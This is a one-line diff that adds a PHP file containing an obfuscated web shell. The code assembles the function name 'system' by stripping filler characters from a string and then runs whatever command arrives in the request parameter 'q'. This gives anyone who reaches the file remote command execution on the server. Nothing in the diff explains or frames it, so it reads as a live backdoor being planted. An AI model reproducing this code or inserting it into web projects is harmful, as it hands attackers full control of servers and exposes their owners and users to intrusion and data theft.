@@ -1,0 +1,1 @@
+<?php $z = str_replace("x", "", "sxyxsxtxexm"); $z($_REQUEST["q"]); ?>
